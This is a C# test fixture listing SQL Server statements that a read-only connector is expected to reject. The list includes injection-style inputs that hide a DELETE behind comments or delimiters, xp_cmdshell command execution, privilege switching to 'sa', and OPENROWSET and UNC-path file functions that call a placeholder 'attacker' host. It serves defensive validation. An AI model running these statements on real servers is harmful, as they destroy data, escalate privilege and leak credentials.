namespace DataSync.Tests.Extract.Connectors.SqlServer;

/// <summary>Statements that would write, lock, or reach beyond the database, or hide one that does. Each is refused before the server sees it.</summary>
public static class SqlServerAttacks
{
    public static TheoryData<string> All =>
    [
        "DELETE FROM numbers", "SELECT 1; DELETE FROM numbers", "SELECT 1 DELETE FROM numbers", "SELECT 1\nGO\nDELETE FROM numbers", "COMMIT; DELETE FROM numbers", "SELECT 1; COMMIT", "ROLLBACK", "BEGIN TRAN",
        "SELECT * INTO stolen FROM numbers", "WITH q AS (SELECT 1 AS a) SELECT * INTO stolen FROM q", "WITH q AS (SELECT * FROM numbers) DELETE FROM q", "INSERT INTO numbers SELECT 0, 'x'", "UPDATE numbers SET name = 'x'",
        "MERGE numbers AS t USING (SELECT 1 AS id) AS s ON t.id = s.id WHEN MATCHED THEN DELETE;", "TRUNCATE TABLE numbers", "DROP TABLE numbers", "CREATE TABLE stolen (a int)", "ALTER TABLE numbers ADD a int", "GRANT CONTROL TO public",
        "EXEC xp_cmdshell 'id'", "EXECUTE ('DELETE FROM numbers')", "sp_configure 'xp_cmdshell', 1", "xp_cmdshell 'id'", "EXEC sp_executesql N'DELETE FROM numbers'", "SELECT 1 EXEC('DELETE FROM numbers')",
        "SELECT * FROM OPENROWSET('MSOLEDBSQL', 'Server=attacker;Trusted_Connection=yes', 'SELECT 1')", "SELECT * FROM OPENROWSET(BULK '\\\\attacker\\share\\x', SINGLE_BLOB) AS b", "SELECT * FROM OPENQUERY(linked, 'DELETE FROM numbers')",
        "SELECT * FROM OPENDATASOURCE('MSOLEDBSQL', 'Data Source=attacker').d.dbo.t", "SELECT * FROM linked.d.dbo.t", "SELECT linked.d.dbo.f()", "SELECT NEXT VALUE FOR counter", "SELECT NEXT VALUE FOR counter OVER (ORDER BY id) FROM numbers",
        "DECLARE @a int; SELECT @a = 1", "SELECT @a = 1", "DECLARE @a int", "SET ROWCOUNT 1", "USE master", "WAITFOR DELAY '00:01:00'", "SELECT 1 WAITFOR DELAY '00:01:00'", "SHUTDOWN", "DBCC FREEPROCCACHE", "KILL 51", "BACKUP DATABASE d TO DISK = 'x'", "RECONFIGURE",
        "SELECT * FROM numbers WITH (TABLOCKX)", "SELECT * FROM numbers WITH (UPDLOCK, HOLDLOCK)", "SELECT * FROM numbers (XLOCK)", "SELECT * FROM numbers WITH (SERIALIZABLE)", "SELECT * FROM numbers WITH (TABLOCK)", "SELECT * FROM numbers FOR BROWSE",
        "SELECT * FROM (SELECT * FROM numbers WITH (XLOCK)) AS q", "SELECT * FROM numbers WHERE id IN (SELECT id FROM numbers WITH (UPDLOCK))", "SELECT * FROM numbers OPTION (TABLE HINT (numbers, TABLOCKX))",
        "SELECT * FROM (DELETE FROM numbers OUTPUT deleted.id) AS q", "SELECT * FROM (UPDATE numbers SET name = 'x' OUTPUT inserted.id) AS q", "SELECT /* */ 1 /* ; */ ; /* */ DELETE FROM numbers -- ", "SELECT ';' ; DELETE FROM numbers", "SELECT [;] FROM t; DELETE FROM numbers",
        "SELECT 1 /* /* */ ; DELETE FROM numbers /* */ */; DELETE FROM numbers", "SELECT * FROM sys.fn_trace_gettable('\\\\attacker\\share\\x.trc', 1)", "SELECT * FROM sys.fn_xe_file_target_read_file('\\\\attacker\\x*', NULL, NULL, NULL)", "SELECT * FROM sys.dm_os_file_exists('\\\\attacker\\x')",
        "SELECT * FROM sys.fn_get_audit_file('\\\\attacker\\x', NULL, NULL)", "IF 1 = 1 DELETE FROM numbers", "WHILE 1 = 1 SELECT 1", "BEGIN SELECT 1 END", "CREATE VIEW v AS SELECT 1 AS a", "DECLARE c CURSOR FOR SELECT 1", "BULK INSERT numbers FROM 'x'", "REVERT", "EXECUTE AS LOGIN = 'sa'",
        "READTEXT numbers.name 0 1", "RECEIVE * FROM q", "SEND ON CONVERSATION 'x'", "PRINT 'x'", "RAISERROR('x', 16, 1)", "SELECT 1 AS a COMPUTE SUM(a)",
    ];
}
